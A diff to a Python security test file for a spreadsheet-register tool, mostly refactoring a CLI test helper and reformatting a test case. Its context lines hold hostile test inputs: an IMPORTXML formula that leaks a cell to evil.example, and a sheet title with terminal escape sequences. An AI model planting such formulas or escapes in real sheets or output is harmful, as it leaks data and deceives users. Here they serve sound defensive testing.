@@ -6,7 +6,6 @@ out of the documents folder, or a leaked secret; certificates are verified by de
 
 from __future__ import annotations
 
-import io
 import json
 import re
 import ssl
@@ -17,7 +16,6 @@ import openpyxl
 import pytest
 
 from pmsheets import config as config_module
-from pmsheets.cli.main import main
 from pmsheets.core.overdue import find_overdue, overdue_report
 from pmsheets.core.policy import Policy
 from pmsheets.core.schema import FINDINGS_HEADERS, parse
@@ -26,17 +24,13 @@ from pmsheets.outputs.mail import Outgoing, build_message, tls_context
 from pmsheets.outputs.report_render import render
 from pmsheets.register.google_session import EndpointSession
 from sheets_emulator import DEFAULT_EMAIL, SheetsEmulator
+from tests.cli_helpers import run
 from tests.conftest import AS_OF, action_row, incident_row, tables, write_workbook
 
 FORMULA = '=IMPORTXML("https://evil.example/?leak="&A1,"//a")'
 INCIDENT_COLUMN = FINDINGS_HEADERS.index("Incident")
 # Shown escaped on a terminal: C0 and C1 controls, DEL, and the bidi overrides that reorder what a line seems to say.
 TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
-
-
-def run(*argv: str) -> tuple[int, str, str]:
-    out, err = io.StringIO(), io.StringIO()
-    return main(list(argv), stdout=out, stderr=err), out.getvalue(), err.getvalue()
 
 
 def xlsx_project(folder: Path, content: dict[str, object]) -> str:
@@ -100,7 +94,7 @@ def test_table_output_shows_control_characters_from_cells_escaped(tmp_path: Path
 def test_updated_line_shows_control_characters_from_the_sheet_title_escaped(emulator: SheetsEmulator, tmp_path: Path) -> None:
     key = emulator.create_spreadsheet("Register\x1b]0;pwned\x07\nfake second line", sheets=tables())
     key_file(emulator, tmp_path)
-    code, out, err = run("--config", google_project(emulator, tmp_path, key), "validate", "--as-of", AS_OF.isoformat())
+    code, out, _ = run("--config", google_project(emulator, tmp_path, key), "validate", "--as-of", AS_OF.isoformat())
     assert code == 0
     assert not TERMINAL_CONTROLS.search(out)
     assert "Register\\x1b]0;pwned\\x07\\nfake second line" in out.splitlines()[-1]
@@ -234,8 +228,10 @@ def test_worker_log_never_shows_the_private_key(emulator: SheetsEmulator, tmp_pa
 @pytest.mark.parametrize(
     "content",
     [
-        '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nTOPSECRETKEYBODY\\n-----END PRIVATE KEY-----\\n", '
-        '"client_email": "bot@example.iam.gserviceaccount.com", "token_uri": "https://oauth2.googleapis.com/token"}',
+        (
+            '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nTOPSECRETKEYBODY\\n-----END PRIVATE KEY-----\\n", '
+            '"client_email": "bot@example.iam.gserviceaccount.com", "token_uri": "https://oauth2.googleapis.com/token"}'
+        ),
         '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nTOPSECRETKEYBODY',
     ],
     ids=["unloadable-key", "truncated-json"],
